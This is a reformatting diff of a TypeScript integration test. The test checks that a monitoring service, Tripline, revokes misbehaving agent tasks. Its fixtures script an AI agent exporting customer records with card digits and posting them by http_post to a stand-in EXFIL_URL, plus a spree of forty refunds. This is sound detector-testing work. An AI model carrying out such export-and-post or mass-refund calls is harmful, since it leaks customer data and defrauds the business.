@@ -53,13 +53,17 @@ function exfiltrationCalls(): Call[] {
   return [
     { tool: 'get_order', args: { order_id: 'ord-17' } },
     { tool: 'export_customers', args: { limit: 50 } },
-    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email,card_last4\n1,Customer 1,customer1@shop.example,1007\n...' } },
+    {
+      tool: 'http_post',
+      args: { url: EXFIL_URL, body: 'id,name,email,card_last4\n1,Customer 1,customer1@shop.example,1007\n...' },
+    },
   ];
 }
 
 function spreeCalls(): Call[] {
   const calls: Call[] = [{ tool: 'get_order', args: { order_id: 'ord-42' } }];
-  for (let i = 0; i < 40; i++) calls.push({ tool: 'issue_refund', args: { order_id: `ord-${String(100 + i)}`, amount: 39.99 } });
+  for (let i = 0; i < 40; i++)
+    calls.push({ tool: 'issue_refund', args: { order_id: `ord-${String(100 + i)}`, amount: 39.99 } });
   return calls;
 }
 
@@ -90,7 +94,13 @@ describe('real Python agents (pydantic-ai, LangGraph + OpenInference) against Tr
   const baseline = (taskType: string): Promise<BaselineView | undefined> => baselineView(tripline.apiUrl, taskType);
 
   /** Runs one agent process over `plan`; returns what it ran, in order. */
-  async function runAgent(framework: Framework, mode: Mode, taskType: string, name: string, plan: PlannedTask[]): Promise<RanTask[]> {
+  async function runAgent(
+    framework: Framework,
+    mode: Mode,
+    taskType: string,
+    name: string,
+    plan: PlannedTask[],
+  ): Promise<RanTask[]> {
     const planFile = join(workDir, `${taskType}-${name}.json`);
     writeFileSync(planFile, JSON.stringify(plan));
     // The type once per process, as the issue's users set it; in wrapper mode the wrapper then carries the task id only
@@ -99,7 +109,24 @@ describe('real Python agents (pydantic-ai, LangGraph + OpenInference) against Tr
     // One agent per framework and mode: Tripline escalates an agent whose tasks are revoked three times in ten
     // minutes, and each suite's two attacks must not count against the next suite's agent.
     const agent = `refund-agent-${mode}`;
-    const { stdout } = await runPythonAgent(framework, 'agent.py', ['--endpoint', tripline.otlpUrl, '--token', TEST_AGENT_TOKEN, '--plan', planFile, '--mode', mode, '--agent', agent], env, 300_000);
+    const { stdout } = await runPythonAgent(
+      framework,
+      'agent.py',
+      [
+        '--endpoint',
+        tripline.otlpUrl,
+        '--token',
+        TEST_AGENT_TOKEN,
+        '--plan',
+        planFile,
+        '--mode',
+        mode,
+        '--agent',
+        agent,
+      ],
+      env,
+      300_000,
+    );
     const ran = stdout
       .split('\n')
       .filter((line) => line.startsWith('{'))
@@ -130,95 +157,132 @@ describe('real Python agents (pydantic-ai, LangGraph + OpenInference) against Tr
         let mixed: RanTask[] = [];
         const mixedOf = (label: Label): RanTask[] => mixed.filter((entry) => entry.label === label);
 
-        it(`runs ${String(WARMUP_RUN)} benign warm-up tasks and the type reaches its baseline`, async () => {
-          const plan = Array.from({ length: WARMUP_RUN }, () => planned('benign', benignCalls(next)));
-          warmup = await runAgent(framework, mode, taskType, 'warmup', plan);
-          let last: BaselineView | undefined;
-          try {
-            await waitFor(
-              `the baseline of ${taskType} to be learned from ${String(WARMUP_TASKS)} tasks`,
-              async () => {
-                last = await baseline(taskType);
-                return last !== undefined && last.tasks >= WARMUP_TASKS;
-              },
-              VERDICT_MS,
-              250,
-            );
-          } catch (error) {
-            const first = warmup[0];
-            const sample = first === undefined ? undefined : await task(idOf(first));
-            throw new Error(`${(error as Error).message}; baseline: ${last === undefined ? 'none (404)' : `${String(last.tasks)} tasks, ${last.regime}`}; first warm-up task: ${sample === undefined ? 'unknown to Tripline (404)' : JSON.stringify(sample)}`, { cause: error });
-          }
-          expect(last?.regime).toBe('type_baseline');
-        }, 10 * 60_000);
-
-        it('runs a mixed phase: benign tasks, a novel-tool exfiltration and a tool-call spree', async () => {
-          const plan = Array.from({ length: MIXED_BENIGN }, () => planned('benign', benignCalls(next)));
-          plan.splice(3, 0, planned('exfiltration', exfiltrationCalls()));
-          plan.splice(6, 0, planned('spree', spreeCalls()));
-          mixed = await runAgent(framework, mode, taskType, 'mixed', plan);
-          expect(mixed).toHaveLength(MIXED_BENIGN + 2);
-        }, 10 * 60_000);
-
-        it('scores the mixed phase under the type baseline', async () => {
-          const first = mixed[0];
-          expect(first, 'the mixed phase ran').toBeDefined();
-          if (first === undefined) return;
-          const view = await waitFor(`task ${idOf(first)} to be known`, () => task(idOf(first)), VERDICT_MS, 250);
-          expect(view.detector.regime, JSON.stringify(view)).toBe('type_baseline');
-        }, 2 * 60_000);
-
-        for (const label of ['exfiltration', 'spree'] as const) {
-          it(`revokes the ${label === 'exfiltration' ? 'novel-tool exfiltration' : 'tool-call spree'}`, async () => {
-            const [attack] = mixedOf(label);
-            expect(attack, 'the mixed phase ran').toBeDefined();
-            if (attack === undefined) return;
-            let last: TaskView | undefined;
+        it(
+          `runs ${String(WARMUP_RUN)} benign warm-up tasks and the type reaches its baseline`,
+          async () => {
+            const plan = Array.from({ length: WARMUP_RUN }, () => planned('benign', benignCalls(next)));
+            warmup = await runAgent(framework, mode, taskType, 'warmup', plan);
+            let last: BaselineView | undefined;
             try {
               await waitFor(
-                `task ${idOf(attack)} (${label}) to be revoked`,
+                `the baseline of ${taskType} to be learned from ${String(WARMUP_TASKS)} tasks`,
                 async () => {
-                  last = await task(idOf(attack));
-                  return last?.status === 'revoked';
+                  last = await baseline(taskType);
+                  return last !== undefined && last.tasks >= WARMUP_TASKS;
                 },
                 VERDICT_MS,
                 250,
               );
             } catch (error) {
-              throw new Error(`${(error as Error).message}; last seen: ${last === undefined ? 'unknown to Tripline (404)' : JSON.stringify(last)}`, { cause: error });
+              const first = warmup[0];
+              const sample = first === undefined ? undefined : await task(idOf(first));
+              throw new Error(
+                `${(error as Error).message}; baseline: ${last === undefined ? 'none (404)' : `${String(last.tasks)} tasks, ${last.regime}`}; first warm-up task: ${sample === undefined ? 'unknown to Tripline (404)' : JSON.stringify(sample)}`,
+                { cause: error },
+              );
             }
-          }, 2 * 60_000);
+            expect(last?.regime).toBe('type_baseline');
+          },
+          10 * 60_000,
+        );
+
+        it(
+          'runs a mixed phase: benign tasks, a novel-tool exfiltration and a tool-call spree',
+          async () => {
+            const plan = Array.from({ length: MIXED_BENIGN }, () => planned('benign', benignCalls(next)));
+            plan.splice(3, 0, planned('exfiltration', exfiltrationCalls()));
+            plan.splice(6, 0, planned('spree', spreeCalls()));
+            mixed = await runAgent(framework, mode, taskType, 'mixed', plan);
+            expect(mixed).toHaveLength(MIXED_BENIGN + 2);
+          },
+          10 * 60_000,
+        );
+
+        it(
+          'scores the mixed phase under the type baseline',
+          async () => {
+            const first = mixed[0];
+            expect(first, 'the mixed phase ran').toBeDefined();
+            if (first === undefined) return;
+            const view = await waitFor(`task ${idOf(first)} to be known`, () => task(idOf(first)), VERDICT_MS, 250);
+            expect(view.detector.regime, JSON.stringify(view)).toBe('type_baseline');
+          },
+          2 * 60_000,
+        );
+
+        for (const label of ['exfiltration', 'spree'] as const) {
+          it(
+            `revokes the ${label === 'exfiltration' ? 'novel-tool exfiltration' : 'tool-call spree'}`,
+            async () => {
+              const [attack] = mixedOf(label);
+              expect(attack, 'the mixed phase ran').toBeDefined();
+              if (attack === undefined) return;
+              let last: TaskView | undefined;
+              try {
+                await waitFor(
+                  `task ${idOf(attack)} (${label}) to be revoked`,
+                  async () => {
+                    last = await task(idOf(attack));
+                    return last?.status === 'revoked';
+                  },
+                  VERDICT_MS,
+                  250,
+                );
+              } catch (error) {
+                throw new Error(
+                  `${(error as Error).message}; last seen: ${last === undefined ? 'unknown to Tripline (404)' : JSON.stringify(last)}`,
+                  { cause: error },
+                );
+              }
+            },
+            2 * 60_000,
+          );
         }
 
-        it('completes every benign task and revokes none', async () => {
-          const benign = [...warmup, ...mixedOf('benign')];
-          expect(benign.length, 'the warm-up and the mixed phase ran').toBe(WARMUP_RUN + MIXED_BENIGN);
-          const views = new Map<string, TaskView | undefined>();
-          try {
-            await waitFor(
-              `all ${String(benign.length)} benign tasks of ${taskType} to complete`,
-              async () => {
-                for (const entry of benign) {
-                  const id = idOf(entry);
-                  if (views.get(id)?.status === 'completed' || views.get(id)?.status === 'revoked') continue;
-                  views.set(id, await task(id));
-                }
-                return benign.every((entry) => {
-                  const status = views.get(idOf(entry))?.status;
-                  return status === 'completed' || status === 'revoked';
-                });
-              },
-              VERDICT_MS,
-              500,
-            );
-          } catch (error) {
-            const pending = benign.filter((entry) => views.get(idOf(entry))?.status !== 'completed').map((entry) => `${idOf(entry)}: ${JSON.stringify(views.get(idOf(entry)) ?? '404')}`);
-            throw new Error(`${(error as Error).message}; not completed (${String(pending.length)}): ${pending.slice(0, 3).join('; ')}`, { cause: error });
-          }
-          const revoked = benign.filter((entry) => views.get(idOf(entry))?.status === 'revoked');
-          expect(revoked.map((entry) => JSON.stringify(views.get(idOf(entry)))), 'benign tasks revoked').toEqual([]);
-          expect(benign.filter((entry) => views.get(idOf(entry))?.status !== 'completed').map(idOf), 'benign tasks not completed').toEqual([]);
-        }, 2 * 60_000);
+        it(
+          'completes every benign task and revokes none',
+          async () => {
+            const benign = [...warmup, ...mixedOf('benign')];
+            expect(benign.length, 'the warm-up and the mixed phase ran').toBe(WARMUP_RUN + MIXED_BENIGN);
+            const views = new Map<string, TaskView | undefined>();
+            try {
+              await waitFor(
+                `all ${String(benign.length)} benign tasks of ${taskType} to complete`,
+                async () => {
+                  for (const entry of benign) {
+                    const id = idOf(entry);
+                    if (views.get(id)?.status === 'completed' || views.get(id)?.status === 'revoked') continue;
+                    views.set(id, await task(id));
+                  }
+                  return benign.every((entry) => {
+                    const status = views.get(idOf(entry))?.status;
+                    return status === 'completed' || status === 'revoked';
+                  });
+                },
+                VERDICT_MS,
+                500,
+              );
+            } catch (error) {
+              const pending = benign
+                .filter((entry) => views.get(idOf(entry))?.status !== 'completed')
+                .map((entry) => `${idOf(entry)}: ${JSON.stringify(views.get(idOf(entry)) ?? '404')}`);
+              throw new Error(
+                `${(error as Error).message}; not completed (${String(pending.length)}): ${pending.slice(0, 3).join('; ')}`,
+                { cause: error },
+              );
+            }
+            const revoked = benign.filter((entry) => views.get(idOf(entry))?.status === 'revoked');
+            expect(
+              revoked.map((entry) => JSON.stringify(views.get(idOf(entry)))),
+              'benign tasks revoked',
+            ).toEqual([]);
+            expect(
+              benign.filter((entry) => views.get(idOf(entry))?.status !== 'completed').map(idOf),
+              'benign tasks not completed',
+            ).toEqual([]);
+          },
+          2 * 60_000,
+        );
       });
     }
   }
